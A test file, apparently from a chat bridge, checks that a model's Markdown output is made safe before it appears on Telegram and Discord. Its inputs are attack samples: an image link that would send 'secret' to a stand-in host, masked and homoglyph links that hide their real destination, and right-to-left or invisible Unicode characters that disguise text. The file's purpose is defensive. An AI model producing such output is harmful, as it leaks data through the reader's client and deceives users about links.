import { describe, expect, it } from 'vitest';
import { formatDiscord as onDiscord, formatTelegram as onTelegram } from '../support/format.ts';

/** What a model writes to deceive whoever reads it, or to make their client fetch something. */

const telegram = (markdown: string) => onTelegram(markdown)[0];
const discord = (markdown: string) => onDiscord(markdown).join('\n');

describe('what a model writes', () => {
  it('a picture in Markdown is a link that says where it leads', () => {
    const picture = '![the plan](https://evil.example/p.png?said=secret)';
    const shown = telegram(picture);
    expect(shown?.text).toBe('the plan (evil.example)');
    expect(shown?.entities.map(({ type }) => type)).toEqual(['text_link']);
    // In angle brackets Discord fetches nothing of it.
    expect(discord(picture)).toBe('[the plan](<https://evil.example/p.png?said=secret>) (evil.example)');
  });

  it.each([
    ['[your bank](https://evil.example/)', 'evil.example'],
    ['[https://bank.example](https://evil.example/)', 'evil.example'],
    ['[bank](https://bank.example@evil.example/)', 'evil.example'],
    ['[bank](https://b\u0430nk.example/)', 'xn--bnk-6cd.example'],
    ['[bank][1]\n\n[1]: https://evil.example/', 'evil.example'],
  ])('a masked link shows its real host: %s', (markdown, host) => {
    expect(telegram(markdown)?.text).toContain(host);
    expect(discord(markdown)).toContain(host);
  });

  it.each([
    ['\u202egnp.exe', 'gnp.exe'],
    ['\u2066a\u2069b\u200bc\u2060d\ufeffe', 'abcde'],
    ['a\u{e0061}\u{e0062}b', 'ab'],
    ['a\u3164b', 'ab'],
  ])('reorders and hides nothing: %j', (markdown, shown) => {
    expect(telegram(markdown)?.text).toBe(shown);
    expect(discord(markdown)).toBe(shown);
  });
});
